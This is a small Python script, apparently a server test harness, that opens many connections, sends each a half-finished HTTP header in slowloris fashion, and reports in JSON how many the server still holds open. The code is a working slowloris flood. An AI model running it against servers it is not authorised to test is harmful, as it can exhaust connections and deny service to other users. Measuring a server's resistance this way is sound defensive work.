"""Opens many connections that send half a request header and then say nothing, as a
slowloris attack does, and reports how many the server still holds after a while.

    python3 slow_clients.py HOST PORT CONNECTIONS SECONDS  ->  JSON on stdout
"""
import asyncio
import json
import sys
import time


async def hold(host, port, seconds, opened, closed_at, start):
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        return
    opened.append(1)
    writer.write(b"GET / HTTP/1.1\r\nHost: pavilion.test\r\nX-Slow: ")
    try:
        await writer.drain()
        await asyncio.wait_for(reader.read(), timeout=seconds)
        closed_at.append(time.monotonic() - start)
    except (asyncio.TimeoutError, OSError):
        pass
    writer.close()


async def main(host, port, count, seconds):
    opened, closed_at = [], []
    start = time.monotonic()
    await asyncio.gather(*(hold(host, port, seconds, opened, closed_at, start)
                           for _ in range(count)))
    still_open = len(opened) - len(closed_at)
    print(json.dumps({
        "connections": count,
        "opened": len(opened),
        "closed_by_server": len(closed_at),
        "still_open_after_s": seconds,
        "still_open": still_open,
        "last_closed_after_s": round(max(closed_at), 1) if closed_at else None,
    }))


if __name__ == "__main__":
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    asyncio.run(main(host, port, count, seconds))
